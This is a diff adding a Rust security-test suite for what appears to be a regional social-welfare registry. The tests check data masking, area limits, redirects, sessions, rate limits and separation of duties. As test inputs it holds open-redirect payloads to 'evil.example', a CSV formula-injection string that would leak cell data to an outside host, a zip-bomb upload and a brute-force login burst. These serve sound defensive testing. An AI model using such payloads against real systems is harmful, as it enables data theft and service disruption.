@@ -1,0 +1,843 @@
+//! Personal data stays where role and area allow, and the defences hold against an
+//! attacker: each test is one finding of the security review, closed.
+mod common;
+
+use common::{hidden, kube_body, persons_in, TestApp, PASSWORD};
+use reqwest::{Client, StatusCode};
+use serde_json::{json, Value};
+
+const REJASARI: &str = "32.79.04.2002";
+const PATARUMAN: &str = "32.79.02.1002";
+
+fn siti() -> Value {
+    json!({
+        "nik": "3279045708920003", "kk_number": "3279040101100001", "name": "Siti Aminah",
+        "sex": "P", "birth_date": "1992-08-17", "village_code": REJASARI,
+        "categories": ["wrse", "fakir_miskin"]
+    })
+}
+
+async fn create(app: &TestApp, token: &str, body: Value) -> i64 {
+    let r = app.post(token, "/api/v1/persons", body).await;
+    assert_eq!(r.status(), StatusCode::CREATED);
+    r.json::<Value>().await.unwrap()["id"].as_i64().unwrap()
+}
+
+/// A masked role reads no digit past the regency and no birth date: with the sex and the
+/// kecamatan it also reads, the number could be rebuilt.
+#[tokio::test]
+async fn a_masked_nik_cannot_be_rebuilt_and_not_searched_by_prefix() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let id = create(&app, &op, siti()).await;
+    for who in ["auditor", "p.langensari"] {
+        let t = app.token(who).await;
+        let p: Value = app.get_json(&t, &format!("/api/v1/persons/{id}")).await;
+        assert_eq!(p["nik"], "3279••••••••••••", "{who}");
+        assert_eq!(p["kk_number"], "3279••••••••••••");
+        assert_eq!(p["birth_date"], Value::Null, "{who}: the age instead");
+        assert!(p["age"].as_i64().unwrap() >= 33);
+        let csv = app
+            .get(&t, "/api/v1/persons/export?format=csv")
+            .await
+            .text()
+            .await
+            .unwrap();
+        for secret in ["0003", "0001", "1992-08-17", "570892"] {
+            assert!(!csv.contains(secret), "{who} export holds {secret}: {csv}");
+        }
+        // The person page shows the age, not the date.
+        let b = app.browser_login(who).await;
+        let page = app.page(&b, &format!("/persons/{id}")).await;
+        assert!(
+            !page.contains("1992-08-17") && !page.contains("0003"),
+            "{who}"
+        );
+        // No search by the start of a NIK (it would confirm guesses digit by digit).
+        let r = app.get(&t, "/api/v1/persons?q=32790457").await;
+        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{who}");
+        let r = app.get(&t, "/api/v1/kube?q=32790457").await;
+        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{who}");
+    }
+    // The auditor may not look a NIK up at all; the pendamping one whole NIK of their
+    // area (the card is in their hand), and the lookup is audited.
+    let aud = app.token("auditor").await;
+    let r = app.get(&aud, "/api/v1/persons?q=3279045708920003").await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let pl = app.token("p.langensari").await;
+    let found: Value = app
+        .get_json(&pl, "/api/v1/persons?q=3279045708920003")
+        .await;
+    assert_eq!(found["total"], 1);
+    let admin = app.token("admin").await;
+    let audit: Value = app
+        .get_json(&admin, "/api/v1/audit?action=nik_lookup")
+        .await;
+    assert_eq!(audit["total"], 1);
+    assert_eq!(audit["items"][0]["username"], "p.langensari");
+    // Changing what the NIK encodes is not for a masked role: each answer would be an
+    // oracle (does this birth date fit the NIK?).
+    let r = app
+        .patch(
+            &pl,
+            &format!("/api/v1/persons/{id}"),
+            json!({"birth_date": "1992-08-18"}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::FORBIDDEN);
+    let r = app
+        .patch(
+            &pl,
+            &format!("/api/v1/persons/{id}"),
+            json!({"name": "Siti Aminah Rahmah"}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::OK, "other fields stay editable");
+    app.stop().await;
+}
+
+/// A person outside the caller's area is never named, dated or placed in an answer.
+#[tokio::test]
+async fn names_do_not_cross_area_borders() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let langensari = persons_in(&app, &op, REJASARI, 5, 70).await;
+    let names: Vec<String> = {
+        let mut v = Vec::new();
+        for id in &langensari {
+            let p: Value = app.get_json(&op, &format!("/api/v1/persons/{id}")).await;
+            v.push(p["name"].as_str().unwrap().to_string());
+        }
+        v
+    };
+    let pp = app.token("p.pataruman").await;
+    let leaks = |body: &str| names.iter().filter(|n| body.contains(n.as_str())).count();
+    // Forming a KUBE with Langensari's residents.
+    let r = app
+        .post(
+            &pp,
+            "/api/v1/kube",
+            kube_body("KUBE Curian", PATARUMAN, &langensari),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let body = r.text().await.unwrap();
+    assert_eq!(leaks(&body), 0, "{body}");
+    // Adding one to a Pataruman KUBE.
+    let own = persons_in(&app, &op, PATARUMAN, 5, 71).await;
+    let k: Value = app
+        .post(
+            &op,
+            "/api/v1/kube",
+            kube_body("KUBE Pataruman", PATARUMAN, &own),
+        )
+        .await
+        .json()
+        .await
+        .unwrap();
+    let r = app
+        .post(
+            &pp,
+            &format!("/api/v1/kube/{}/members", k["id"]),
+            json!({"person_id": langensari[0], "role": "anggota"}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(leaks(&r.text().await.unwrap()), 0);
+    // A KUBE import naming Langensari's NIKs.
+    let niks: Vec<String> = {
+        let mut v = Vec::new();
+        for id in &langensari {
+            let p: Value = app.get_json(&op, &format!("/api/v1/persons/{id}")).await;
+            v.push(p["nik"].as_str().unwrap().to_string());
+        }
+        v
+    };
+    let mut csv = String::from(
+        "kube_name,business_type,village_code,formed_on,funding_source,member_nik,member_role\n",
+    );
+    for (i, n) in niks.iter().enumerate() {
+        let role = ["ketua", "sekretaris", "bendahara", "anggota", "anggota"][i];
+        csv += &format!("KUBE Impor,warungan,{PATARUMAN},2020-01-01,apbd_kota,{n},{role}\n");
+    }
+    let r = Client::new()
+        .post(app.url("/api/v1/import/kube?dry_run=true"))
+        .bearer_auth(&pp)
+        .body(csv)
+        .send()
+        .await
+        .unwrap();
+    let body = r.text().await.unwrap();
+    assert_eq!(leaks(&body), 0, "{body}");
+    // The duplicate warning when registering someone like a Langensari resident.
+    let first: Value = app
+        .get_json(&op, &format!("/api/v1/persons/{}", langensari[0]))
+        .await;
+    let twin = json!({
+        "nik": "3279020101600999", "name": first["name"], "sex": first["sex"],
+        "birth_date": first["birth_date"], "village_code": PATARUMAN, "categories": ["fakir_miskin"]
+    });
+    let r = app.post(&pp, "/api/v1/persons", twin).await;
+    let body = r.text().await.unwrap();
+    assert!(
+        !body.contains(first["birth_date"].as_str().unwrap()),
+        "{body}"
+    );
+    assert!(!body.contains("Rejasari"), "{body}");
+    // A training in Langensari that Pataruman's residents attend: the facilitator of
+    // Langensari reads a count, not their names.
+    let pataruman_names: Vec<String> = {
+        let mut v = Vec::new();
+        for id in &own {
+            let p: Value = app.get_json(&op, &format!("/api/v1/persons/{id}")).await;
+            v.push(p["name"].as_str().unwrap().to_string());
+        }
+        v
+    };
+    let t: Value = app
+        .post(
+            &op,
+            "/api/v1/trainings",
+            json!({"title": "Bimtek kota", "kind": "pelatihan",
+            "starts_on": "2026-01-05", "ends_on": "2026-01-05", "village_code": REJASARI}),
+        )
+        .await
+        .json()
+        .await
+        .unwrap();
+    for id in own.iter().chain(&langensari[..1]) {
+        let r = app
+            .post(
+                &op,
+                &format!("/api/v1/trainings/{}/participants", t["id"]),
+                json!({"person_id": id, "attended": true}),
+            )
+            .await;
+        assert_eq!(r.status(), StatusCode::CREATED);
+    }
+    let pl = app.token("p.langensari").await;
+    let seen: Value = app
+        .get_json(&pl, &format!("/api/v1/trainings/{}", t["id"]))
+        .await;
+    assert_eq!(seen["participants"].as_array().unwrap().len(), 1);
+    assert_eq!(seen["participants_elsewhere"], 5);
+    let b = app.browser_login("p.langensari").await;
+    let page = app.page(&b, &format!("/trainings/{}", t["id"])).await;
+    for n in &pataruman_names {
+        assert!(!page.contains(n.as_str()), "{n} on the page");
+        assert!(!seen.to_string().contains(n.as_str()));
+    }
+    let r = app
+        .get(
+            &pl,
+            &format!(
+                "/api/v1/trainings/{}/participants/{}/certificate.pdf",
+                t["id"], own[0]
+            ),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::NOT_FOUND);
+    app.stop().await;
+}
+
+/// Merge entries nest both whole records: masked at every depth for the auditor.
+#[tokio::test]
+async fn the_audit_log_masks_nested_records() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let a = create(&app, &op, siti()).await;
+    let mut twin = siti();
+    twin["nik"] = json!("3279045708920009");
+    twin["kk_number"] = json!("3279040101100007");
+    twin["name"] = json!("Siti Aminnah");
+    twin["confirm_duplicate"] = json!(true);
+    let b = create(&app, &op, twin).await;
+    let r = app
+        .post(
+            &op,
+            &format!("/api/v1/persons/{a}/merge"),
+            json!({"other_id": b}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::OK);
+    let aud = app.token("auditor").await;
+    let body = app
+        .get(&aud, "/api/v1/audit?action=merge")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(body.contains("merge"));
+    for n in [
+        "3279045708920003",
+        "3279040101100001",
+        "3279045708920009",
+        "3279040101100007",
+        "1992-08-17",
+    ] {
+        assert!(!body.contains(n), "{n} in {body}");
+    }
+    let b = app.browser_login("auditor").await;
+    let page = app.page(&b, "/audit?action=merge").await;
+    assert!(!page.contains("3279045708920003") && !page.contains("1992-08-17"));
+    app.stop().await;
+}
+
+/// Redirects go to same-origin paths only.
+#[tokio::test]
+async fn no_open_redirect() {
+    let app = TestApp::spawn().await;
+    let c = app.browser();
+    for next in [
+        "/%09/evil.example",
+        "//evil.example",
+        "/%5Cevil.example",
+        "https://evil.example",
+        "/%20/evil.example",
+    ] {
+        let r = c
+            .get(app.url(&format!("/lang/en?next={next}")))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), StatusCode::SEE_OTHER);
+        assert_eq!(r.headers()["location"], "/", "{next}");
+    }
+    let r = c.get(app.url("/lang/en?next=/kube")).send().await.unwrap();
+    assert_eq!(r.headers()["location"], "/kube");
+    // The login form's `next` too.
+    let page = app.page(&c, "/login").await;
+    let csrf = hidden(&page, "_csrf");
+    let r = c
+        .post(app.url("/login"))
+        .form(&[
+            ("_csrf", csrf.as_str()),
+            ("username", "operator"),
+            ("password", PASSWORD),
+            ("next", "/\t/evil.example"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    assert_eq!(r.headers()["location"], "/");
+    app.stop().await;
+}
+
+/// A password change or reset ends the account's sessions and tokens; tokens need the
+/// password, expire, and the admin sees and ends them.
+#[tokio::test]
+async fn sessions_and_tokens_end_with_the_password() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    // A token needs the current password and lives 90 days unless asked otherwise.
+    let r = app
+        .post(
+            &op,
+            "/api/v1/tokens",
+            json!({"label": "sync", "password": "salah-1234"}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let r = app
+        .post(
+            &op,
+            "/api/v1/tokens",
+            json!({"label": "sync", "password": PASSWORD, "days": 400}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let r = app
+        .post(
+            &op,
+            "/api/v1/tokens",
+            json!({"label": "sync", "password": PASSWORD}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::CREATED);
+    let token = r.json::<Value>().await.unwrap()["token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let list: Value = app.get_json(&op, "/api/v1/tokens").await;
+    let expires =
+        chrono::DateTime::parse_from_rfc3339(list[0]["expires_at"].as_str().unwrap()).unwrap();
+    let days = (expires.with_timezone(&chrono::Utc) - chrono::Utc::now()).num_days();
+    assert!((89..=90).contains(&days), "{days}");
+    // The admin sees the operator's sessions and token, and can end one.
+    let admin = app.token("admin").await;
+    let me: Value = app.get_json(&op, "/api/v1/auth/me").await;
+    let uid = me["id"].as_i64().unwrap();
+    let sessions: Value = app
+        .get_json(&admin, &format!("/api/v1/users/{uid}/sessions"))
+        .await;
+    let items = sessions.as_array().unwrap();
+    assert!(items
+        .iter()
+        .any(|s| s["kind"] == "api" && s["label"] == "sync"));
+    assert!(items.iter().all(|s| s["last_used_at"].is_string()));
+    let tid = items.iter().find(|s| s["kind"] == "api").unwrap()["id"]
+        .as_i64()
+        .unwrap();
+    let r = Client::new()
+        .delete(app.url(&format!("/api/v1/users/{uid}/sessions/{tid}")))
+        .bearer_auth(&admin)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::NO_CONTENT);
+    assert_eq!(
+        app.get(&token, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    // An admin's password reset ends every session of the account.
+    let r = app
+        .patch(
+            &admin,
+            &format!("/api/v1/users/{uid}"),
+            json!({"password": "Baru-Rahasia-2027"}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(
+        app.get(&op, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    // Changing one's own password keeps that browser session, ends the rest and the tokens.
+    let kabid_token = app.token("kabid").await;
+    let r = app
+        .post(
+            &kabid_token,
+            "/api/v1/tokens",
+            json!({"label": "laporan", "password": PASSWORD}),
+        )
+        .await;
+    let kabid_api = r.json::<Value>().await.unwrap()["token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let b = app.browser_login("kabid").await;
+    let page = app.page(&b, "/profile").await;
+    let csrf = hidden(&page, "_csrf");
+    let r = b
+        .post(app.url("/profile/password"))
+        .form(&[
+            ("_csrf", csrf.as_str()),
+            ("current", PASSWORD),
+            ("new", "Kepala-Bidang-2027"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::SEE_OTHER);
+    assert_eq!(
+        b.get(app.url("/profile")).send().await.unwrap().status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        app.get(&kabid_api, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        app.get(&kabid_token, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    // "Log out everywhere" ends the rest, this one included.
+    let aud1 = app.token("auditor").await;
+    let aud2 = app.token("auditor").await;
+    let r = app.post(&aud1, "/api/v1/auth/logout-all", json!({})).await;
+    assert_eq!(r.status(), StatusCode::NO_CONTENT);
+    assert_eq!(
+        app.get(&aud2, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        app.get(&aud1, "/api/v1/auth/me").await.status(),
+        StatusCode::UNAUTHORIZED
+    );
+    app.stop().await;
+}
+
+async fn login_status(app: &TestApp, user: &str, password: &str, from: &str) -> StatusCode {
+    Client::new()
+        .post(app.url("/api/v1/auth/login"))
+        .header("x-forwarded-for", from)
+        .json(&json!({"username": user, "password": password}))
+        .send()
+        .await
+        .unwrap()
+        .status()
+}
+
+/// A burst of wrong passwords cannot outrun the limit, does not starve other requests,
+/// and does not lock the owner out from their own office.
+#[tokio::test]
+async fn login_limits_hold_under_a_burst() {
+    let app = TestApp::spawn_with(|c| c.trust_forwarded_for = true).await;
+    let viewer = app.token("operator").await;
+    let started = std::time::Instant::now();
+    let burst: Vec<_> = (0..200)
+        .map(|i| {
+            let url = app.url("/api/v1/auth/login");
+            tokio::spawn(async move {
+                Client::new()
+                    .post(url)
+                    // The client's own claim left of the proxy's is ignored.
+                    .header(
+                        "x-forwarded-for",
+                        format!("10.9.{}.{}, 10.0.0.66", i / 250, i % 250),
+                    )
+                    .json(&json!({"username": "admin", "password": format!("salah-{i}")}))
+                    .send()
+                    .await
+                    .unwrap()
+                    .status()
+            })
+        })
+        .collect();
+    // Meanwhile the server answers others promptly.
+    let mut slowest = std::time::Duration::ZERO;
+    for _ in 0..5 {
+        let t = std::time::Instant::now();
+        assert_eq!(app.get(&viewer, "/healthz").await.status(), StatusCode::OK);
+        assert_eq!(
+            app.get(&viewer, "/api/v1/auth/me").await.status(),
+            StatusCode::OK
+        );
+        slowest = slowest.max(t.elapsed());
+    }
+    let mut checked = 0;
+    for h in burst {
+        match h.await.unwrap() {
+            StatusCode::UNAUTHORIZED => checked += 1,
+            StatusCode::TOO_MANY_REQUESTS => {}
+            s => panic!("unexpected {s}"),
+        }
+    }
+    assert!(checked <= 5, "{checked} wrong passwords were checked");
+    assert!(
+        slowest < std::time::Duration::from_secs(1),
+        "{slowest:?} while under attack ({:?})",
+        started.elapsed()
+    );
+    // The attacker's address is held back, even with the right password…
+    assert_eq!(
+        login_status(&app, "admin", PASSWORD, "10.0.0.66").await,
+        StatusCode::TOO_MANY_REQUESTS
+    );
+    // …the owner at the office is not.
+    assert_eq!(
+        login_status(&app, "admin", PASSWORD, "10.0.0.5").await,
+        StatusCode::OK
+    );
+    app.stop().await;
+}
+
+/// No cell of a CSV the system writes becomes a live formula in a spreadsheet program.
+#[tokio::test]
+async fn csv_cells_cannot_become_formulas() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let mut p = siti();
+    p["name"] = json!("=HYPERLINK(\"http://x/?\"&A2,\"klik\")");
+    create(&app, &op, p).await;
+    let csv = app
+        .get(&op, "/api/v1/persons/export?format=csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(csv.contains("'=HYPERLINK"), "{csv}");
+    assert!(
+        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
+        "{csv}"
+    );
+    app.stop().await;
+}
+
+/// A small upload that unpacks to gigabytes is refused with a reason, quickly and
+/// without the server's memory growing; other requests keep being answered.
+#[tokio::test]
+async fn an_upload_bomb_is_refused() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let bomb = std::fs::read(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/tests/fixtures/bomb-2gb.xlsx"
+    ))
+    .unwrap();
+    assert!(bomb.len() < 3 * 1024 * 1024, "a small file");
+    let url = app.url("/api/v1/import/persons?dry_run=true");
+    let t = op.clone();
+    let upload = tokio::spawn(async move {
+        Client::new()
+            .post(url)
+            .bearer_auth(t)
+            .body(bomb)
+            .send()
+            .await
+            .unwrap()
+    });
+    for _ in 0..5 {
+        let t = std::time::Instant::now();
+        assert_eq!(app.get(&op, "/healthz").await.status(), StatusCode::OK);
+        assert!(t.elapsed() < std::time::Duration::from_secs(1));
+    }
+    let r = upload.await.unwrap();
+    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+    let e: Value = r.json().await.unwrap();
+    assert!(
+        e["error"]["fields"]["file"]
+            .as_str()
+            .unwrap()
+            .contains("terlalu besar"),
+        "{e}"
+    );
+    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
+    if let Some(kb) = status
+        .lines()
+        .find(|l| l.starts_with("VmHWM:"))
+        .and_then(|l| l.split_whitespace().nth(1))
+    {
+        let mb = kb.parse::<u64>().unwrap() / 1024;
+        assert!(
+            mb < 300,
+            "peak memory of the test process with its server: {mb} MB"
+        );
+    }
+    app.stop().await;
+}
+
+/// Nothing with personal data is kept by a shared PC's browser; assets are cached.
+#[tokio::test]
+async fn personal_data_is_never_cached() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let id = create(&app, &op, siti()).await;
+    let b = app.browser_login("operator").await;
+    for path in [
+        format!("/persons/{id}"),
+        "/persons/export?format=csv".into(),
+        "/".into(),
+    ] {
+        let r = b.get(app.url(&path)).send().await.unwrap();
+        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
+    }
+    let r = app.get(&op, &format!("/api/v1/persons/{id}")).await;
+    assert_eq!(r.headers()["cache-control"], "no-store");
+    let r = b.get(app.url("/static/app.css")).send().await.unwrap();
+    assert!(r.headers()["cache-control"]
+        .to_str()
+        .unwrap()
+        .starts_with("public"));
+    // And no CSRF token travels in a URL: no form action carries one.
+    for path in ["/import", "/profile"] {
+        let page = app.page(&b, path).await;
+        assert!(!page.contains("?_csrf="), "{path}");
+    }
+    app.stop().await;
+}
+
+/// Separation of duties: the submitter does not verify, the verifier does not approve,
+/// and cash benefits wait for the head of division like goods.
+#[tokio::test]
+async fn one_person_does_not_take_a_step_and_its_check() {
+    let app = TestApp::spawn().await;
+    let op = app.token("operator").await;
+    let admin = app.token("admin").await;
+    let kabid = app.token("kabid").await;
+    let ids = persons_in(&app, &op, REJASARI, 5, 72).await;
+    let k: Value = app
+        .post(&op, "/api/v1/kube", kube_body("KUBE Tugas", REJASARI, &ids))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let item: Value = app
+        .post(
+            &op,
+            "/api/v1/items",
+            json!({"name": "Etalase", "unit": "unit", "unit_price": 1_000_000}),
+        )
+        .await
+        .json()
+        .await
+        .unwrap();
+    let g: Value = app
+        .post(&op, "/api/v1/programmes", json!({"name": "UEP", "year": 2026, "funding_source": "apbd_kota", "target": "kube", "budget": 100_000_000}))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let p: Value = app
+        .post(&op, "/api/v1/proposals", json!({"kube_id": k["id"], "programme_id": g["id"], "items": [{"item_id": item["id"], "quantity": 2}], "justification": "x"}))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let act = |a: &str| format!("/api/v1/proposals/{}/{a}", p["id"]);
+    assert_eq!(
+        app.post(&op, &act("submit"), json!({})).await.status(),
+        StatusCode::OK
+    );
+    let r = app.post(&op, &act("verify"), json!({})).await;
+    assert_eq!(r.status(), StatusCode::CONFLICT);
+    assert!(r
+        .text()
+        .await
+        .unwrap()
+        .contains("tidak boleh memverifikasi"));
+    assert_eq!(
+        app.post(&admin, &act("verify"), json!({})).await.status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        app.post(&kabid, &act("approve"), json!({})).await.status(),
+        StatusCode::OK
+    );
+
+    // Cash benefits: recorded, held against the budget, paid once the head of division
+    // (not the recorder) approves.
+    let aslut: Value = app
+        .post(&op, "/api/v1/programmes", json!({"name": "ASLUT", "year": 2026, "funding_source": "apbd_kota", "target": "individual", "budget": 10_000_000}))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let pid = aslut["id"].as_i64().unwrap();
+    assert_eq!(
+        app.post(
+            &op,
+            &format!("/api/v1/programmes/{pid}/enrolments"),
+            json!({"person_id": ids[0]})
+        )
+        .await
+        .status(),
+        StatusCode::CREATED
+    );
+    let r = app
+        .post(&op, &format!("/api/v1/programmes/{pid}/benefits"), json!({"person_id": ids[0], "kind": "bantuan_bulanan", "period": "2026-03", "amount": 200_000}))
+        .await;
+    assert_eq!(r.status(), StatusCode::CREATED);
+    let bid = r.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
+    let figures: Value = app
+        .get_json(&op, &format!("/api/v1/programmes/{pid}"))
+        .await;
+    assert_eq!(
+        (figures["committed"].as_i64(), figures["delivered"].as_i64()),
+        (Some(200_000), Some(0))
+    );
+    let list: Value = app
+        .get_json(&op, &format!("/api/v1/programmes/{pid}/benefits"))
+        .await;
+    assert_eq!(list["items"][0]["approved_at"], Value::Null);
+    let approve = format!("/api/v1/programmes/{pid}/benefits/{bid}/approve");
+    assert_eq!(
+        app.post(&op, &approve, json!({})).await.status(),
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(
+        app.post(&kabid, &approve, json!({})).await.status(),
+        StatusCode::OK
+    );
+    assert_eq!(
+        app.post(&kabid, &approve, json!({})).await.status(),
+        StatusCode::CONFLICT
+    );
+    let figures: Value = app
+        .get_json(&op, &format!("/api/v1/programmes/{pid}"))
+        .await;
+    assert_eq!(figures["delivered"], 200_000);
+    // The head of division does not approve what they recorded themselves.
+    let r = app
+        .post(&kabid, &format!("/api/v1/programmes/{pid}/benefits"), json!({"person_id": ids[0], "kind": "bantuan_bulanan", "period": "2026-04", "amount": 200_000}))
+        .await;
+    let own = r.json::<Value>().await.unwrap()["id"].as_i64().unwrap();
+    let r = app
+        .post(
+            &kabid,
+            &format!("/api/v1/programmes/{pid}/benefits/{own}/approve"),
+            json!({}),
+        )
+        .await;
+    assert_eq!(r.status(), StatusCode::CONFLICT);
+    app.stop().await;
+}
+
+/// A very small office may let one person take both steps; the proposal shows it.
+#[tokio::test]
+async fn a_small_office_may_allow_one_person_and_it_shows() {
+    let app = TestApp::spawn_with(|c| c.allow_same_person = true).await;
+    let op = app.token("operator").await;
+    let ids = persons_in(&app, &op, REJASARI, 5, 73).await;
+    let k: Value = app
+        .post(&op, "/api/v1/kube", kube_body("KUBE Kecil", REJASARI, &ids))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let item: Value = app
+        .post(
+            &op,
+            "/api/v1/items",
+            json!({"name": "Etalase", "unit": "unit", "unit_price": 1_000_000}),
+        )
+        .await
+        .json()
+        .await
+        .unwrap();
+    let g: Value = app
+        .post(&op, "/api/v1/programmes", json!({"name": "UEP", "year": 2026, "funding_source": "apbd_kota", "target": "kube", "budget": 100_000_000}))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let p: Value = app
+        .post(&op, "/api/v1/proposals", json!({"kube_id": k["id"], "programme_id": g["id"], "items": [{"item_id": item["id"], "quantity": 1}], "justification": "x"}))
+        .await
+        .json()
+        .await
+        .unwrap();
+    let pid = p["id"].as_i64().unwrap();
+    app.post(&op, &format!("/api/v1/proposals/{pid}/submit"), json!({}))
+        .await;
+    let r = app
+        .post(&op, &format!("/api/v1/proposals/{pid}/verify"), json!({}))
+        .await;
+    assert_eq!(r.status(), StatusCode::OK);
+    let v: Value = r.json().await.unwrap();
+    assert_eq!(v["events"][1]["same_person"], true);
+    let b = app.browser_login("operator").await;
+    let page = app.page(&b, &format!("/proposals/{pid}")).await;
+    assert!(page.contains("tanpa pemisahan tugas"));
+    app.stop().await;
+}
+
+/// Passwords: none of the 10,000 most common, none containing the user name.
+#[tokio::test]
+async fn common_passwords_are_refused() {
+    let app = TestApp::spawn().await;
+    let admin = app.token("admin").await;
+    for (pw, why) in [
+        ("q1w2e3r4t5", "paling umum"),
+        ("budi.santoso-2026", "nama pengguna"),
+    ] {
+        let r = app
+            .post(
+                &admin,
+                "/api/v1/users",
+                json!({"username": "budi.santoso", "password": pw, "role": "operator"}),
+            )
+            .await;
+        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
+        let e: Value = r.json().await.unwrap();
+        assert!(
+            e["error"]["fields"]["password"]
+                .as_str()
+                .unwrap()
+                .contains(why),
+            "{e}"
+        );
+    }
+    app.stop().await;
+}
